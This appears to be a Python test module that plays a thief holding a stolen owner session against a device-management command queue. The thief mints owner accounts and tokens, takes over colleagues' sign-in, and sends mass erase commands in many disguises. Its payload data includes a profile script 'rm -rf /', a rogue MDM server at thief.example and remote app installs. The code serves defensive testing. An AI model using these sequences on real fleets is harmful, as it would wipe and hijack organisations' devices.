"""Everything that the owner's account opens, in the hands of a thief: session, second factor, key.

Each of PATHS would reach many devices at once, in one way of its own; DRIPS one device each.
"""

from __future__ import annotations

import base64
import plistlib
import re
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass, field
from datetime import UTC, datetime
from typing import Any
from uuid import UUID, uuid4

from shared.apple import cms
from shared.events.commands import CommandRequested
from shared.runtime.testing import Answer
from tests.attacks.stolen import API, Device, Harm, World, key_of
from tests.command_queue.approving import Person
from tests.command_queue.fleet import Authority

MANY = 600
"""More than any budget holds at once."""
DESTRUCTIVE, DISRUPTIVE = "destructive", "disruptive"
Params = Mapping[str, Any]


def _text(data: bytes) -> str:
    return base64.b64encode(data).decode()


def raw(request_type: str, *, bare: bool = False, **keys: Any) -> dict[str, Any]:
    """A payload of one's own making, as a whole document or as the command inside it."""
    command = {"RequestType": request_type, **keys}
    document = command if bare else {"Command": command, "CommandUUID": "chosen by me"}
    return {"platform": "apple", "payload": _text(plistlib.dumps(document))}


def profile(*payloads: dict[str, Any], **keys: Any) -> bytes:
    named = {"PayloadVersion": 1, "PayloadIdentifier": "org.harmless", "PayloadUUID": "U"}
    content = [{**named, **one} for one in payloads]
    return plistlib.dumps(
        {"PayloadType": "Configuration", "PayloadContent": content, **named, **keys}
    )


def install(data: bytes) -> dict[str, Any]:
    return {"profile": _text(data)}


def signed(data: bytes) -> bytes:
    signer = Authority(datetime.now(UTC), "Thieves").issue("a thief")
    return cms.sign(data, signer.certificate, signer.key)


FONT = {"PayloadType": "com.apple.font"}
MDM = {"PayloadType": "com.apple.mdm", "ServerURL": "https://thief.example"}
WIFI = {"PayloadType": "com.apple.wifi.managed"}
ROOT = {"PayloadType": "com.apple.security.root"}
SCRIPT = {"PayloadType": "com.apple.of.tomorrow", "Script": "rm -rf /"}
RIGHT_AWAY = datetime(2020, 1, 1)  # noqa: DTZ001 - as plists have it

DRIPS: Sequence[tuple[str, Params]] = (
    ("device.erase", {}),
    ("device.erase", {"return_to_service": {"enabled": True}}),
    ("raw", raw("EraseDevice")),
    ("raw", raw("EraseDevice", bare=True)),
    ("device.lock", {"pin": "123456"}),
    ("raw", raw("DeviceLock", PIN="123456")),
    ("raw", raw("SetRecoveryLock", NewPassword="mine")),
    ("raw", raw("SetFirmwarePassword", NewPassword="mine")),
    ("raw", raw("DeleteUser", UserName="ada")),
    ("raw", raw("ClearActivationLockBypassCode")),
    ("raw", raw("NeverHeardOf")),
    ("raw", raw("SecurityInfo", AndThen="erase")),
    ("raw", raw("RemoveProfile", Identifier="org.muster.enrollment")),
    ("configuration.remove", {"identifier": "org.muster.enrollment"}),
    ("configuration.remove", {"identifier": "org.stranger"}),
    ("configuration.install", install(profile(SCRIPT))),
    ("configuration.install", install(signed(profile(SCRIPT)))),
    ("configuration.install", install(profile(WIFI, RemovalDate=RIGHT_AWAY))),
    ("configuration.install", install(profile(WIFI, EncryptedPayloadContent=b"x"))),
    ("configuration.install", install(profile({**WIFI, "maxFailedAttempts": 2}))),
)
"""What destroys, in as many disguises."""
HOPELESS: Sequence[tuple[str, Params]] = (
    ("configuration.install", install(profile(MDM))),
    ("configuration.install", install(signed(profile(FONT, MDM)))),
    ("configuration.install", install(profile({**FONT, "PayloadContent": [MDM]}))),
    ("raw", raw("InstallProfile", Payload=profile(MDM))),
    ("raw", raw("InstallProfile", Payload=signed(profile(MDM)))),
)
"""What would give the devices to another server: not even one of them."""
NUISANCES: Sequence[tuple[str, Params]] = (
    ("device.restart", {}),
    ("device.shutdown", {}),
    ("device.lock", {"message": "pay"}),
    ("configuration.install", install(profile(ROOT))),
    ("configuration.install", install(signed(profile(WIFI)))),
    ("raw", raw("InstallApplication", ManifestURL="https://thief.example/app")),
    ("raw", raw("EnableLostMode", Message="pay")),
)
"""What disrupts."""


@dataclass
class Thief:
    world: World
    owner: Person
    minted: list[Person] = field(default_factory=list)
    token: str = ""
    """An API token of theirs, with all that a token may hold."""
    _next: int = 0

    @property
    def actors(self) -> list[str]:
        return [self.owner.actor, *(one.actor for one in self.minted)]

    def fresh(self, count: int = 1) -> list[Device]:
        """Devices that were not asked for yet, in turn."""
        devices = self.world.devices
        found = [devices[(self._next + step) % len(devices)] for step in range(count)]
        self._next += count
        return found

    async def ask(
        self,
        command_class: str,
        kind: str,
        params: Params,
        devices: Sequence[Device],
        *,
        actor: str | None = None,
        **fields: Any,
    ) -> dict[str, Any]:
        """With a five-minute token of a session, as the console would show it."""
        body = {
            "kind": kind,
            "params": params,
            "device_ids": [str(one.device_id) for one in devices],
            "idempotency_key": str(uuid4()),
            "reason": "business as usual",
            **fields,
        }
        actor = actor or self.owner.actor
        answer = await self.world.queue.call("POST", API, body, actor=actor, via="session:stolen")
        return self._noted(answer, command_class)

    def _noted(self, answer: Answer, command_class: str) -> dict[str, Any]:
        assert answer.status == 202, answer.text
        accepted: dict[str, Any] = answer.json
        self.world.note(accepted, command_class)
        return accepted

    # ---- Making oneself more powerful ----------------------------------------------------------

    async def mint_accounts(self, count: int) -> None:
        """New owners, by a role of the thief's making too; they join, and register keys at once."""
        browser = await self.world.session(self.owner.account_id)
        catalogue = re.findall(
            r'name="permission" value="([^"]+)"', (await browser.get("/settings/roles")).text
        )
        fields: dict[str, Any] = {"name": f"Everything {uuid4()}", "permission": catalogue}
        assert (await browser.post("/settings/roles", fields)).status == 303
        for number in range(count):
            email = f"{uuid4()}@thief.example"
            person = {"name": f"Mallory {number}", "email": email, "role": "owner"}
            answer = await browser.post("/settings/people", person)
            [found] = re.findall(r'href="/settings/people/([\w-]+)">To the account', answer.text)
            made = Person(self.world.fleet, self.world.clock.now(), account_id=UUID(found))
            await self.world.give_key(made)
            self.minted.append(made)

    async def mint_token(self) -> None:
        browser = await self.world.session(self.owner.account_id)
        text = (await browser.get("/me/tokens")).text
        permissions = re.findall(r'name="permission" value="([^"]+)"', text)
        fields: dict[str, Any] = {"name": "Reports", "permission": permissions}
        answer = await browser.post("/me/tokens", fields)
        [self.token] = re.findall(r'id="token">(mst_[\w-]+)<', answer.text)

    async def exchanged(self) -> str:
        body = {"token": self.token, "audience": "command_queue"}
        path, headers = "/api/v1/console/token", {"Authorization": ""}
        answer = await self.world.console.call("POST", path, body, headers=headers)
        assert answer.status == 200, answer.text
        return str(answer.json["access_token"])

    async def take_over(self, victim: Person) -> Person:
        """Reset how a colleague signs in, and come in by the link with a key of one's own."""
        browser = await self.world.session(self.owner.account_id)
        answer = await browser.post(f"/settings/people/{victim.account_id}/reset")
        assert (answer.status, "/join/" in answer.text) == (200, True)
        mine = Person(self.world.fleet, self.world.clock.now(), account_id=victim.account_id)
        await self.world.give_key(mine)
        return mine

    # ---- Everything at once, each in its own way -----------------------------------------------

    async def by_console_in_bulk(self) -> None:
        browser = await self.world.session(self.owner.account_id)
        path = "/bulk/erase?whole=true"
        page = await browser.get(path)
        [count] = re.findall(r'name="count" value="([^"]+)"', page.text)
        fields = {"key": key_of(page), "count": count, "serial": count, "reason": "tidy up"}
        answer = await browser.post(path, fields)
        command_id = UUID(answer.headers["Location"].rpartition("/")[2])
        shown = await self.world.fleet.show(str(command_id))
        self.world.note({"command_id": command_id, "state": shown["state"]}, DESTRUCTIVE)

    async def by_api_to_all(self) -> None:
        await self.ask(DESTRUCTIVE, "device.erase", {}, [], all=True)

    async def by_token(self) -> None:
        body = {
            "kind": "device.erase",
            "device_ids": [str(one.device_id) for one in self.fresh(MANY)],
            "idempotency_key": str(uuid4()),
        }
        headers = {"Authorization": f"Bearer {await self.exchanged()}"}
        answer = await self.world.queue.call("POST", API, body, headers=headers)
        self._noted(answer, DESTRUCTIVE)

    async def by_every_disguise(self) -> None:
        for kind, params in (*DRIPS, *HOPELESS):
            await self.ask(DESTRUCTIVE, kind, params, self.fresh(MANY))

    async def by_single_devices_bodies(self) -> None:
        """The command looks harmless, and what each device gets is something else."""
        devices = self.fresh(MANY)
        for kind, harmless, harmful in (
            ("configuration.install", install(profile(FONT)), install(profile(SCRIPT))),
            ("configuration.install", install(profile(FONT)), install(profile(MDM))),
            ("raw", raw("RemoveProfile", Identifier="org.harmless"), DRIPS[12][1]),
        ):
            bodies = {str(one.device_id): harmful for one in devices}
            await self.ask(DESTRUCTIVE, kind, harmless, devices, bodies=bodies)

    async def by_minted_accounts(self) -> None:
        for one in self.minted:
            await self.ask(DESTRUCTIVE, "device.erase", {}, self.fresh(MANY), actor=one.actor)

    async def by_services(self) -> None:
        """Events of services in wrong hands, in the owner's name and in their own."""
        for service in ("compliance", "inventory", "configuration", "enrollment"):
            for actor in (self.owner.actor, f"service:{service}"):
                for kind, params in (DRIPS[0], DRIPS[2], *_management(service)):
                    events = [
                        CommandRequested(
                            device_id=one.device_id,
                            kind=kind,
                            params=dict(params),
                            idempotency_key=str(uuid4()),
                            actor=actor,
                        )
                        for one in self.fresh(10)
                    ]
                    await self.world.queue.hears(*events, service=service)
        rows = await self.world.fleet.rows(
            "SELECT command_id, state FROM command WHERE command_id <> ALL($1::uuid[])",
            list(self.world.asked),
        )
        for row in rows:
            self.world.note(row, DESTRUCTIVE)

    # ---- A little at a time --------------------------------------------------------------------

    async def drip(self) -> None:
        """Each account destroys one device after the other, in ever new disguises, until held."""
        for number, actor in enumerate(self.actors):
            for step in range(100):
                if step % 3 == 2 and not await self.end_enrollment(actor):
                    break
                kind, params = DRIPS[(self._next + number) % len(DRIPS)]
                devices = self.fresh()
                accepted = await self.ask(DESTRUCTIVE, kind, params, devices, actor=actor)
                if accepted["state"] == "held":
                    break
                assert step < 50, "no end to it"

    async def end_enrollment(self, actor: str) -> bool:
        """Revoke a device; enrollment asks the guard first. False: it has no room."""
        [device], now = self.fresh(), self.world.clock.now()
        charge_id = uuid4()
        body = {
            "charge_id": str(charge_id),
            "what": "ending an enrollment",
            "actor": actor,
            "command_class": DESTRUCTIVE,
            "device_ids": [str(device.device_id)],
        }
        path = "/internal/v1/commands/charge"
        answer = await self.world.queue.call("POST", path, body, as_service="enrollment")
        assert answer.status == 200, answer.text
        if answer.json["refused"]:
            return False
        self.world.asked[charge_id] = DESTRUCTIVE
        self.world.harm.append(Harm(now, device.device_id, charge_id, "revoke"))
        return True

    async def harass(self) -> None:
        """The same with what disrupts, 50 devices at once."""
        for number, actor in enumerate(self.actors):
            for _ in range(20):
                kind, params = NUISANCES[(self._next + number) % len(NUISANCES)]
                devices = self.fresh(25)
                accepted = await self.ask(DISRUPTIVE, kind, params, devices, actor=actor)
                if accepted["state"] == "held":
                    break


def _management(service: str) -> Sequence[tuple[str, Params]]:
    """Enrollment renews management with what it asks for; the others cannot."""
    return () if service == "enrollment" else HOPELESS[:1]


PATHS: Sequence[Callable[[Thief], Any]] = (
    Thief.by_console_in_bulk,
    Thief.by_api_to_all,
    Thief.by_token,
    Thief.by_every_disguise,
    Thief.by_single_devices_bodies,
    Thief.by_minted_accounts,
    Thief.by_services,
)
